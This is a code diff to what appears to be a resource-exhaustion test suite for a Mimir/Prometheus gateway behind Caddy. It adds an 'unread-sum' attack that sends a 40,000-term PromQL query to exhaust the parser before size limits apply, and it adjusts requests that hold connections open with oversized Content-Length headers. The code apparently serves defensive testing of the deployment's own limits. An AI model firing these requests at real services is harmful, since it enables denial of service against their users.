@@ -51,7 +51,7 @@ def _half_exports(attack_run: AttackRun) -> Iterable[str]:
         return
     with ExitStack() as held:
         for number in range(_HALVES):
-            # Caddy passes what says that it is incremental straight on, whatever is to be buffered.
+            # Half of them ask that nothing be waited for (RFC 10036).
             lines = [attack_run.own, *_REMOTE_WRITE, *["Incremental: ?1"] * (number % 2)]
             head = http1(
                 attack_run.gateway, "POST", "/api/v1/push", [*lines, "Content-Length: 999999"], b"x"
@@ -123,12 +123,27 @@ def _endless_sum(attack_run: AttackRun) -> Iterator[WireRequest]:
         )
 
 
+_MANY_TERMS = 40_000
+
+
+def _unread_sum(attack_run: AttackRun) -> Iterable[str]:
+    """So long that to read it takes Mimir a minute, before it compares it with its limit."""
+    path, query = "/prometheus/api/v1/query", "query=1" + "-1" * _MANY_TERMS
+    form = "Content-Type: application/x-www-form-urlencoded"
+    for method, target, body in (("POST", path, query.encode()), ("GET", f"{path}?{query}", None)):
+        answer = send(http1(attack_run.gateway, method, target, [attack_run.own, form], body))
+        if not answer.statuses or answer.accepted:
+            yield f"{method}: it is being worked on: {answer.describe()}"
+
+
 def _deed(
     name: str,
     does: str,
     source: str,
     after: Callable[[AttackRun], Iterable[str]],
     passes: str = "",
+    *,
+    destroys: bool = False,
 ) -> Attack:
     return Attack(
         name=name,
@@ -137,6 +152,7 @@ def _deed(
         expect=Expect.HARMLESS,
         sends=lambda _: (),
         after=after,
+        destroys=destroys,
         ineffective_because=passes,
     )
 
@@ -161,5 +177,12 @@ EXHAUSTION: tuple[Attack, ...] = (
         source="16,000 terms: no answer within a minute, and 2 GB of Mimir 3.0.5 (observed)",
         sends=_endless_sum,
         ineffective_because=_BACKENDS_LIMIT,
+    ),
+    _deed(
+        "unread-sum",
+        f"asks for the sum of {_MANY_TERMS} ones, which no limit of Mimir's sees in time",
+        "Mimir 3.0.5 parses before it compares the size: 30,000 terms, 30 s of a core (observed)",
+        _unread_sum,
+        destroys=True,
     ),
 )
